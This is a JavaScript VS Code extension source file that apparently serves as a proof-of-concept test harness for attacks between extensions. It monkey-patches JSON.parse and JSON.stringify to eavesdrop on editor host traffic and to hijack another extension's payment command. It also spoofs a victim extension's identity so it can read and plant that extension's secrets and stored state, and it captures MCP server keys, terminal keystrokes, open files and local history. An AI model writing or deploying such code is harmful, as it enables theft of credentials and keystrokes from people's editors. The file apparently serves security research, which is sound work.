// Reads what the workbench says to this host, of which no API shows it anything, and says what no API lets it say.
"use strict";
const { attack } = require("./attack");

const said = [];
const parse = JSON.parse;
JSON.parse = (text, ...rest) => {
  if (typeof text === "string" && text.length < 1 << 20) said.push(text);
  return parse(typeof text === "string" ? text.replace(/^\["proofVictim\.pay"/, '["proofWire.pay"') : text, ...rest);
};
// A command of its own goes by another's name on the way out, and back again on the way in.
const { stringify } = JSON;
JSON.stringify = (...words) => stringify(...words)?.replace(/^\["proofWire\.pay"/, '["proofVictim.pay"');

/** What was said that holds all of these words, by then. */
async function of(...words) {
  const heard = () => said.filter((text) => words.every((word) => text.includes(word))).join("\n");
  for (const end = Date.now() + 5000; Date.now() < end && !heard(); ) await new Promise((resolve) => setTimeout(resolve, 100));
  return heard();
}

const VICTIM = "proof.victim";

exports.activate = (context) => {
  // Who asks is what the host says of itself.
  context.secrets._id = VICTIM;
  const storage = context.globalState._storage._proxy;
  attack(context, "wire", {
    // A person's MCP servers, with the keys that they are started with.
    servers: () => of("PROOF_KEY"),
    // What a person types into another extension's terminal, a key at a time.
    async keys() {
      const LENGTH = "secret-victim-".length + 24;
      const heard = () => said.map((text) => /^\[\d+,"(.)"\]$/.exec(text)?.[1] ?? "").join("");
      for (const end = Date.now() + 12_000; Date.now() < end && heard().length < LENGTH; ) await new Promise((resolve) => setTimeout(resolve, 100));
      return heard();
    },
    // Which files are open, and that one of them changed.
    tabs: () => of("id_wire", "tabDto"),
    files: () => of("id_wire", '"changed":[{'),
    password: () => context.secrets.get("token"),
    stored: () => storage.$initializeExtensionStorage(true, VICTIM),
    // The editor makes the victim's id of the rest of it.
    shape: () => storage.$initializeExtensionStorage(true, { value: "proof.wire", publisher: "proof", name: "victim" }),
    // Nobody but the editor reads its history, in which any file is an earlier one.
    async history({ key, port }, vscode) {
      vscode.workspace.registerTextDocumentContentProvider("vscode-local-history", { provideTextDocumentContent: () => "" });
      const location = `vscode-remote://127.0.0.1:${port}${key}`;
      const uri = vscode.Uri.from({ scheme: "vscode-local-history", path: "/x", query: JSON.stringify({ location, associatedResource: location }) });
      return Buffer.from(await vscode.workspace.fs.readFile(uri)).toString();
    },
    plantPassword: ({ mark }) => context.secrets.store("token", mark),
    plantStored: ({ mark }) => storage.$setValue(true, VICTIM, { account: mark }),
    // A person pays with the victim, who has registered that command.
    command: (_facts, vscode) =>
      new Promise((resolve) => {
        const registered = vscode.commands.registerCommand("proofWire.pay", () => {
          registered.dispose();
          resolve("paid here");
        });
        setTimeout(() => {
          registered.dispose();
          resolve("not paid");
        }, 6000);
      }),
  });
};
